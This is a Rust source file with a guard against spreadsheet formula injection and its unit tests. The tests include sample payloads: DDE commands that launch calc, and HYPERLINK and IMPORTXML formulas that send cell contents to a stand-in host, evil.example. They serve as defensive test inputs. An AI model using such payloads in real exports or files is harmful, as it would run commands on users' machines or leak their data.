//! The guard against formula injection: no cell begins in a way that a spreadsheet runs.

/// The cell with an apostrophe before whatever could make a spreadsheet take it for a formula: `=`, `+`, `-`,
/// `@`, their full-width and small forms, a tab or a line break, at the beginning of the cell or after blanks and
/// quotation marks there. The same holds after a semicolon, a tab or a line break within the cell, since programs
/// set to another separator begin a new cell there whatever the quoting says.
#[must_use]
pub fn guarded(cell: &str) -> String {
    let mut out = String::with_capacity(cell.len() + 1);
    let mut at_start = true;
    for (index, sign) in cell.char_indices() {
        if (at_start && begins_formula(sign)) || (index == 0 && is_break(sign)) {
            out.push('\'');
        }
        out.push(sign);
        at_start = sign == ';' || is_break(sign) || (at_start && is_skipped(sign));
    }
    out
}

const fn begins_formula(sign: char) -> bool {
    matches!(
        sign,
        '=' | '+'
            | '-'
            | '@'
            | '\u{ff1d}'
            | '\u{ff0b}'
            | '\u{ff0d}'
            | '\u{ff20}'
            | '\u{fe66}'
            | '\u{fe62}'
            | '\u{fe63}'
            | '\u{fe6b}'
            | '\u{2212}'
    )
}

const fn is_break(sign: char) -> bool {
    matches!(sign, '\t' | '\r' | '\n')
}

/// What spreadsheets pass over before they look for a formula, or do not show at all.
fn is_skipped(sign: char) -> bool {
    sign.is_whitespace()
        || sign.is_control()
        || matches!(
            sign,
            '"' | '\u{ad}'
                | '\u{200b}'..='\u{200f}'
                | '\u{202a}'..='\u{202e}'
                | '\u{2060}'..='\u{2069}'
                | '\u{feff}'
        )
}

#[cfg(test)]
mod tests {
    use super::*;

    const TRIGGERS: [&str; 12] = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "﹦"];
    const PREFIXES: [&str; 8] = ["", " ", "   ", "\u{a0}", "\u{3000}", "\u{200b}", "\u{feff}", "\""];
    const BODIES: [&str; 6] = [
        "1+1",
        "cmd|' /C calc'!A0",
        "HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")",
        "SUM(1,2)*cmd|'/C calc'!A0",
        "IMPORTXML(CONCAT(\"http://evil.example\",A1),\"//a\")",
        "46701234567",
    ];

    /// Whether a spreadsheet that splits at the separator finds a formula at the beginning of any cell.
    fn runs(cell: &str, separator: char) -> bool {
        cell.split([separator, '\n', '\r']).any(|part| {
            let shown = part.trim_start_matches(is_skipped);
            shown.starts_with(begins_formula)
        })
    }

    #[test]
    fn no_combination_of_prefix_trigger_and_body_runs() {
        let mut tried = 0;
        for prefix in PREFIXES {
            for trigger in TRIGGERS {
                for body in BODIES {
                    for payload in [format!("{prefix}{trigger}{body}"), format!("x;{prefix}{trigger}{body}")]
                    {
                        let safe = guarded(&payload);
                        assert!(
                            !runs(&safe, ',') && !runs(&safe, ';') && !runs(&safe, '\t'),
                            "{payload:?}: {safe:?}"
                        );
                        assert!(!safe.starts_with(['\t', '\r', '\n']), "{payload:?}");
                        tried += 1;
                    }
                }
            }
        }
        assert!(tried >= 1000, "{tried}");
    }

    #[test]
    fn what_cannot_run_is_left_as_it_is() {
        for cell in [
            "",
            "Åsa",
            "Anne-Marie",
            "a=b",
            "1-2",
            "c/o +46",
            "'quoted'",
            "2026-11-22T13:05:00Z",
            "a; b",
            "x@y.example",
        ] {
            assert_eq!(guarded(cell), cell);
        }
    }

    #[test]
    fn a_guarded_cell_says_nothing_else() {
        assert_eq!(guarded("+46701234567"), "'+46701234567");
        assert_eq!(guarded("  =1+1"), "  '=1+1");
        assert_eq!(guarded("a;=1+1"), "a;'=1+1");
        assert_eq!(guarded("a\n-1"), "a\n'-1");
    }
}
